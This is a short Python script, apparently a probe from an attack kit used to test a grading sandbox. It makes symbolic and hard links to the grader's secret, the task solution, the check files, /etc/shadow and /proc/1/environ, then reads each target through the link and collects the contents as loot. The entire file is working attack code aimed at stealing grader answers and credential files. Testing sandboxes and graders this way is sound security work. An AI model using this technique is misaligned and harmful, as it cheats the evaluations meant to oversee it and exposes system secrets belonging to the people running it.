"""Links to secrets, made where the grader may follow them later."""

import os

from attack_kit import FACTS, loot, ran, read, tried

ran()
targets = [FACTS["secret"], FACTS["solution"], *FACTS["checks"], "/etc/shadow", "/proc/1/environ"]
for number, target in enumerate(targets):
    for kind, make in (("soft", os.symlink), ("hard", os.link)):
        tried(make, target, f"{kind}{number}")
        loot(read(f"{kind}{number}"))
